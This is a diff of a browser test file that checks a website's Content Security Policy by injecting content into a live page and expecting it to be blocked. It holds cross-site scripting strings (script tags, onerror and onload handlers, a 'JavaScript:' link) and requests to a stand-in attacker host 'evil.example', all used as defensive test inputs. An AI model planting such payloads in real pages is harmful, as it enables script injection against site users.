@@ -1,24 +1,79 @@
-import { PAGE_KINDS, PAGES } from '../support/pages.ts';
-import { expect, test, waitUntilLive } from '../support/test.ts';
+import { expect, openLive, test } from '../support/test.ts';
 
-/** Pages that one tab opens one after the other. */
-const PAGES_A_TEST = 60;
-const pages = PAGES.filter(({ kind }) => kind !== 'not-found');
+// That no page of the site breaks its policy is proved by tests/site/every-page.spec.ts: the browser logs each violation, and a page that logs
+// anything fails. Here it is proved that this is so, and that the policy stops what it is for.
 
-for (let first = 0; first < pages.length; first += PAGES_A_TEST) {
-  const group = pages.slice(first, first + PAGES_A_TEST);
-  test(`pages ${first + 1} to ${first + group.length} of the site hold the policy, from the first byte to the live page`, async ({ page }) => {
-    const violations: string[] = [];
-    await page.exposeFunction('noteViolation', (text: string) => violations.push(text));
-    await page.addInitScript(() => {
-      addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
-        Reflect.get(window, 'noteViolation')(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sample}`);
-      });
-    });
-    for (const { address } of group) {
-      await page.goto(address);
-      await waitUntilLive(page);
-    }
-    expect(violations).toEqual([]);
+test.describe('a page that breaks the policy', () => {
+  test.fail();
+
+  test('fails its test by the message that the browser logs', async ({ page }) => {
+    await openLive(page, '/about');
+    await page.evaluate(() => document.body.setAttribute('style', 'color: red'));
   });
-}
+});
+
+test.describe('what an attacker might get into a page', () => {
+  test.use({ expectedMessages: [/Content Security Policy|TrustedHTML|TrustedScript|[Vv]iolates the following|Refused to/] });
+
+  test('does not run as a script or as the attribute of an element, changes no style and calls no other host', async ({ page }) => {
+    await openLive(page, '/about');
+    const violated = await page.evaluate(async () => {
+      const violated: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => violated.push((event as SecurityPolicyViolationEvent).effectiveDirective));
+      const add = (name: string, attributes: Record<string, string>) => {
+        const element = document.createElement(name);
+        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+        document.body.append(element);
+      };
+      add('img', { src: 'https://evil.example/seen.png' });
+      add('link', { rel: 'stylesheet', href: 'https://evil.example/new.css' });
+      add('p', { style: 'position: fixed' });
+      add('iframe', { src: 'https://evil.example/' });
+      add('base', { href: 'https://evil.example/' });
+      await fetch('https://evil.example/').catch(() => {});
+      // Violations are told after the fact.
+      await new Promise((done) => setTimeout(done));
+      return [...new Set(violated)].sort();
+    });
+    expect(violated).toEqual(['base-uri', 'connect-src', 'frame-src', 'img-src', 'style-src-attr', 'style-src-elem']);
+  });
+
+  test('does not become HTML when it could run: scripts, frames, handlers', async ({ page }) => {
+    await openLive(page, '/about');
+    const refused = await page.evaluate(() => {
+      const isRefused = (html: string) => {
+        try {
+          document.createElement('div').innerHTML = html;
+          return false;
+        } catch {
+          return true;
+        }
+      };
+      return {
+        script: isRefused('<script>alert(1)</script>'),
+        handler: isRefused('<img src=x onerror=alert(1)>'),
+        splitHandler: isRefused('<svg\nonload = "alert(1)">'),
+        frame: isRefused('<iframe srcdoc="x"></iframe>'),
+        address: isRefused('<a href="JavaScript:alert(1)">x</a>'),
+        prose: isRefused('<p>Fees on demand = <strong>0</strong></p>'),
+        drawing: isRefused('<svg viewBox="0 0 1 1"><path d="M0 0h1" fill="var(--leaf)"/></svg>'),
+      };
+    });
+    expect(refused).toEqual({ script: true, handler: true, splitHandler: true, frame: true, address: true, prose: false, drawing: false });
+  });
+
+  test('starts no worker from another place than the files of the site', async ({ page }) => {
+    await openLive(page, '/about');
+    const refused = await page.evaluate(() =>
+      ['https://evil.example/worker.js', 'data:text/javascript,1', '/documents/worker.js'].map((address) => {
+        try {
+          new Worker(address);
+          return false;
+        } catch {
+          return true;
+        }
+      }),
+    );
+    expect(refused).toEqual([true, true, true]);
+  });
+});
